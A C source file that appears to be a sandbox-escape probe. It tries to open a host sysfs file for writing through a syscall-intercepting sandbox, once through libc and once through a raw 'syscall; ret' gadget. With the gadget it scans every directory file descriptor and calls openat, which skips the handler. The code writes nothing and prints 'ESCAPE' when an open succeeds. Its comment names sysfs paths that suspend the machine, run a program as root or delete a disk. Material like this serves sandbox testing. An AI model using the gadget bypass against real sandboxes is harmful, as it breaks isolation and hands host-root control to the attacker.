/* Opens a file of a pseudo file system of the host's that lies in a
 * read-write grant (a chroot's /sys bound in) for writing, and writes
 * nothing: a root session's euid is the host's root, which owns sysfs's
 * files (/sys/power/state suspends the machine, /sys/kernel/uevent_helper
 * runs a program as root, a disk's device/delete removes it). argv[1]:
 * its virtual path (through the handler); argv[2]: the same relative to
 * the grant's root (around the handler: every directory fd, through
 * ld-preld's `syscall; ret`). An open that succeeds prints ESCAPE. */
#include "attack.h"
#include "gadget_scan.h"
#include <sys/stat.h>

static unsigned long G;
static long g(long n, long a, long b, long c, long d) { return call_gadget(G, n, a, b, c, d); }

int main(int argc, char **argv) {
    if (argc < 3) { fprintf(stderr, "usage: open_wronly VPATH RELPATH\n"); return 2; }
    long r = lc(open(argv[1], O_WRONLY));
    printf("libc open VPATH O_WRONLY: %s\n", r < 0 ? strerror((int)-r) : "opened ESCAPE: the host's file open for writing");
    if (r >= 0) close((int)r);
    fflush(stdout);
    find_gadgets();
    if (!ncand) { printf("no gadget: nothing to try\n"); return 0; }
    G = cands[0];
    int dirs = 0;
    for (long fd = 0; fd < 65536; fd++) {
        struct stat st;
        if (g(SYS_fstat, fd, (long)&st, 0, 0) < 0 || !S_ISDIR(st.st_mode)) continue;
        dirs++;
        r = g(SYS_openat, fd, (long)argv[2], O_WRONLY, 0);
        printf("openat(dir fd %ld, RELPATH, O_WRONLY): %s\n", fd, r < 0 ? strerror((int)-r) : "opened ESCAPE: the host's file open for writing");
        if (r >= 0) g(SYS_close, r, 0, 0, 0);
    }
    printf("directory fds: %d\n", dirs);
    fflush(stdout);
    return 0;
}
